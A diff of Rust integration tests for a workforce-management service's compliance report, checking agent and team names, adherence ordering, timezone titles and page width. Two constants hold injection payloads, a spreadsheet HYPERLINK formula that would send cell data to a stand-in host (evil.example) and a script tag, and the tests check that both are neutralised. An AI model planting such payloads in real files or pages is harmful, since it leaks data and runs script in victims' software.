@@ -1,9 +1,18 @@
-//! The compliance report over HTTP and from the CLI, after real transitions.
+//! The compliance report over HTTP and from the CLI, after real transitions; agents
+//! named from the platform's list, and the HTML page in a browser at 1366 px.
 
-use chrono::{Duration, SecondsFormat, Utc};
+use std::collections::HashMap;
+
+use chrono::{Duration, DurationRound, SecondsFormat, Utc};
 use serde_json::Value;
+use wfmd::domain::adherence::Shift;
+use wfmd::domain::{AgentState, Origin};
+use wfmd::sim::SimAgent;
+use wfmd::store::history::{self, NewInterval};
+use wfmd::store::schedules::{self, BreakSource, StoredShift};
 
-use crate::helpers::{Dialect, TestApp, on_both_dialects, wfmd};
+use crate::helpers::{Dialect, TestApp, TestSim, on_both_dialects, wfmd};
+use crate::wallboard::Chromedriver;
 
 fn instant(at: chrono::DateTime<Utc>) -> String {
     at.to_rfc3339_opts(SecondsFormat::Millis, true)
@@ -179,4 +188,312 @@ async fn the_cli_writes_the_report_to_the_out_file() {
     assert_eq!(output.status.code(), Some(2));
     let stderr = String::from_utf8_lossy(&output.stderr);
     assert!(stderr.contains("--tz"), "{stderr}");
+}
+
+/// The names the platform may hold that a spreadsheet or a browser would run.
+const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+const SCRIPT_NAME: &str = "<script>alert('name')</script>";
+
+/// wfmd with the wallboard's roster refresh on (`live.enabled`, which the harness turns
+/// off; it lists the agents at start), after `rename` renamed agents on the platform;
+/// returns once every agent's name is stored.
+async fn spawn_named(dialect: Dialect, rename: impl FnOnce(&TestSim)) -> TestApp {
+    let sim = TestSim::default_tenant().await.on(dialect);
+    rename(&sim);
+    let app = TestApp::spawn_with(sim, |config| config.live.enabled = true).await;
+    let agents = app.sim.sim.agents().len() as i64;
+    app.wait_for_count(
+        "SELECT COUNT(*) FROM agent_roster WHERE name IS NOT NULL",
+        agents,
+        "the platform's agent list is stored",
+    )
+    .await;
+    app
+}
+
+/// `name` (a column or a field) of each CSV row, by agent id.
+fn csv_column(text: &str, name: &str) -> HashMap<String, String> {
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let column = headers.iter().position(|h| h == name).unwrap();
+    reader
+        .records()
+        .map(|r| {
+            let r = r.unwrap();
+            (r[0].to_owned(), r[column].to_owned())
+        })
+        .collect()
+}
+
+on_both_dialects!(the_csv_and_json_name_each_agent_and_team_as_the_platform_lists_them);
+async fn the_csv_and_json_name_each_agent_and_team_as_the_platform_lists_them(dialect: Dialect) {
+    let app = spawn_named(dialect, |_| {}).await;
+    let (accepted, rejected) = two_transitions(&app).await;
+    let from = instant(Utc::now() - Duration::hours(1));
+    let to = instant(Utc::now() + Duration::hours(1));
+
+    let text = fetch(&app, &[("from", &from), ("to", &to)])
+        .await
+        .text()
+        .await
+        .unwrap();
+    let headers: Vec<String> = csv::Reader::from_reader(text.as_bytes())
+        .headers()
+        .unwrap()
+        .iter()
+        .map(Into::into)
+        .collect();
+    assert_eq!(
+        headers[headers.len() - 3..],
+        ["name", "team_id", "team"],
+        "added at the end: {headers:?}"
+    );
+    let (names, team_ids, teams) = (
+        csv_column(&text, "name"),
+        csv_column(&text, "team_id"),
+        csv_column(&text, "team"),
+    );
+    let json: Value = fetch(&app, &[("from", &from), ("to", &to), ("format", "json")])
+        .await
+        .json()
+        .await
+        .unwrap();
+    for id in [&accepted, &rejected] {
+        let agent = app.sim.sim.agent(id).unwrap();
+        assert!(!agent.name.is_empty() && !agent.team_name.is_empty());
+        assert_eq!(names[id], agent.name, "{text}");
+        assert_eq!(team_ids[id], agent.team_id);
+        assert_eq!(teams[id], agent.team_name);
+        let row = json["agents"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|a| a["agent_id"] == id.as_str())
+            .unwrap();
+        assert_eq!(row["name"], agent.name.as_str(), "{row}");
+        assert_eq!(row["team_id"], agent.team_id.as_str());
+        assert_eq!(row["team"], agent.team_name.as_str());
+    }
+}
+
+#[tokio::test]
+async fn a_formula_name_is_text_in_the_csv_and_a_script_name_is_escaped_in_the_html() {
+    let mut picked = Vec::new();
+    let app = spawn_named(Dialect::V2, |sim| {
+        let free = sim.free_agents();
+        for (agent, name) in free.iter().zip([FORMULA_NAME, SCRIPT_NAME]) {
+            assert!(sim.sim.rename_agent(&agent.id, name));
+            picked.push(agent.clone());
+        }
+    })
+    .await;
+    for agent in &picked {
+        let target = if agent.state == "PAUSED" {
+            "IDLE"
+        } else {
+            "PAUSED"
+        };
+        let (status, body) = app.set_state(&agent.id, target).await;
+        assert_eq!(status, 200, "{body}");
+    }
+    let (formula, script) = (&picked[0].id, &picked[1].id);
+    let from = instant(Utc::now() - Duration::hours(1));
+    let to = instant(Utc::now() + Duration::hours(1));
+
+    let text = fetch(&app, &[("from", &from), ("to", &to)])
+        .await
+        .text()
+        .await
+        .unwrap();
+    let names = csv_column(&text, "name");
+    assert_eq!(names[formula], format!("'{FORMULA_NAME}"), "{text}");
+    assert_eq!(names[script], SCRIPT_NAME, "not a formula: as it is");
+
+    let html = fetch(&app, &[("from", &from), ("to", &to), ("format", "html")])
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(!html.contains("<script"), "no script element: {html}");
+    assert!(html.contains("<td>&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt;<br>"));
+    assert!(html.contains("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1"));
+}
+
+/// Seeds what adherence is computed from, over the two hours from `t0`: `(agent, state
+/// at t0, state at t0 + 1 h or none, with a shift)`. A shift spans the window without
+/// breaks, so READY is in adherence and NOT_READY is not.
+async fn seed_adherence(
+    app: &TestApp,
+    t0: chrono::DateTime<Utc>,
+    agents: &[(&str, AgentState, Option<AgentState>, bool)],
+) {
+    let mut tx = app.store.begin_write().await.unwrap();
+    for &(agent, first, then, shift) in agents {
+        let changes = [(first, t0)]
+            .into_iter()
+            .chain(then.map(|s| (s, t0 + Duration::hours(1))));
+        for (state, at) in changes {
+            let next = NewInterval {
+                agent_id: agent,
+                state,
+                reason: None,
+                origin: Origin::Observed,
+                at,
+                attempt_id: None,
+            };
+            history::switch_state(&mut tx, &next).await.unwrap();
+        }
+        if shift {
+            let stored = StoredShift {
+                agent_id: agent.into(),
+                shift: Shift {
+                    start: t0 - Duration::hours(1),
+                    end: t0 + Duration::hours(8),
+                    breaks: vec![],
+                },
+                timezone: Some("Europe/Berlin".into()),
+                breaks_from: BreakSource::Schedule,
+                fetched_at: t0 - Duration::hours(2),
+            };
+            schedules::save(&mut tx, &[stored]).await.unwrap();
+        }
+    }
+    tx.commit().await.unwrap();
+}
+
+/// The first per-agent table of the page, in order: `team <heading>` for a team's
+/// heading row (its text up to the id), the agent id for an agent's row.
+fn page_order(html: &str) -> Vec<String> {
+    let table = html.split("<table class=\"agents\">").nth(1).unwrap();
+    let table = &table[..table.find("</table>").unwrap()];
+    let mut order = Vec::new();
+    for row in table.split("<tr class=\"").skip(1) {
+        if let Some(rest) = row.strip_prefix("team\"><th colspan=\"13\">") {
+            order.push(format!("team {}", &rest[..rest.find(" <span").unwrap()]));
+        } else if let Some(rest) = row.strip_prefix("agent\" data-agent=\"") {
+            order.push(rest[..rest.find('"').unwrap()].to_owned());
+        }
+    }
+    order
+}
+
+#[tokio::test]
+async fn the_html_groups_by_team_lists_worst_adherence_first_and_titles_the_window_in_the_zone() {
+    let app = spawn_named(Dialect::V2, |_| {}).await;
+    let agents = app.sim.sim.agents();
+    let team = &agents[0].team_id;
+    let mates: Vec<&SimAgent> = agents.iter().filter(|a| &a.team_id == team).collect();
+    let other = agents.iter().find(|a| &a.team_id != team).unwrap();
+    let (full, half, unscheduled) = (&mates[0].id, &mates[1].id, &mates[2].id);
+    let t0 = (Utc::now() - Duration::hours(3))
+        .duration_trunc(Duration::hours(1))
+        .unwrap();
+    use AgentState::{NotReady, Ready};
+    seed_adherence(
+        &app,
+        t0,
+        &[
+            (full, Ready, None, true),
+            (half, NotReady, Some(Ready), true),
+            (unscheduled, Ready, None, false),
+            (&other.id, NotReady, None, true),
+        ],
+    )
+    .await;
+    let from = instant(t0);
+    let to = instant(t0 + Duration::hours(2));
+
+    let html = fetch(
+        &app,
+        &[
+            ("from", &from),
+            ("to", &to),
+            ("format", "html"),
+            ("tz", "Europe/Berlin"),
+        ],
+    )
+    .await
+    .text()
+    .await
+    .unwrap();
+    let ours = [
+        format!("team {}", mates[0].team_name),
+        half.clone(),
+        full.clone(),
+        unscheduled.clone(),
+    ];
+    let theirs = [format!("team {}", other.team_name), other.id.clone()];
+    let expected: Vec<String> =
+        if mates[0].team_name.to_lowercase() < other.team_name.to_lowercase() {
+            ours.into_iter().chain(theirs).collect()
+        } else {
+            theirs.into_iter().chain(ours).collect()
+        };
+    assert_eq!(page_order(&html), expected);
+    assert!(html.contains(&format!(
+        "<td>{}<br><span class=\"id\">{half}</span></td><td>50.0</td>",
+        mates[1].name
+    )));
+
+    let berlin: chrono_tz::Tz = "Europe/Berlin".parse().unwrap();
+    let local = |at: chrono::DateTime<Utc>| at.with_timezone(&berlin).format("%Y-%m-%d %H:%M");
+    let title = format!(
+        "Compliance report {} – {} (Europe/Berlin)",
+        local(t0),
+        local(t0 + Duration::hours(2))
+    );
+    assert!(html.contains(&format!("<title>{title}</title>")), "{html}");
+    assert!(html.contains(&format!("<h1>{title}</h1>")));
+}
+
+#[tokio::test]
+async fn the_html_report_fits_a_1366_px_screen_without_sideways_scrolling() {
+    let long = "Maximiliana-Theodora-Wolkenstein-Rodenegg-von-und-zu-Hohenlohe-Schillingsfürst";
+    let mut moved = Vec::new();
+    let app = spawn_named(Dialect::V2, |sim| {
+        moved = sim.free_agents().into_iter().take(12).collect();
+        assert!(sim.sim.rename_agent(&moved[0].id, long));
+    })
+    .await;
+    for agent in &moved {
+        let target = if agent.state == "PAUSED" {
+            "IDLE"
+        } else {
+            "PAUSED"
+        };
+        let (status, body) = app.set_state(&agent.id, target).await;
+        assert_eq!(status, 200, "{body}");
+    }
+    let from = instant(Utc::now() - Duration::hours(1));
+    let to = instant(Utc::now() + Duration::hours(1));
+    let url = format!(
+        "{}/v1/reports/compliance?from={}&to={}&format=html&tz=Europe/Berlin",
+        app.address,
+        from.replace('+', "%2B"),
+        to.replace('+', "%2B")
+    );
+
+    let driver = Chromedriver::start().await;
+    let browser = driver.browser().await;
+    browser.set_window_size(1366, 900).await.unwrap();
+    browser.goto(&url).await.unwrap();
+    let measured = browser
+        .execute(
+            "return [window.innerWidth, document.documentElement.scrollWidth,
+                     document.querySelectorAll('table.agents tr.agent').length];",
+            vec![],
+        )
+        .await
+        .unwrap();
+    let [inner, scroll, rows] = [0, 1, 2].map(|i| measured[i].as_u64().unwrap());
+    assert!(
+        (1300..=1366).contains(&inner),
+        "the window is a 1366 px screen: {measured}"
+    );
+    assert_eq!(rows, 2 * moved.len() as u64, "the page is the report");
+    assert!(
+        scroll <= inner,
+        "the page is {scroll} px wide in a {inner} px window"
+    );
+    browser.close().await.unwrap();
 }
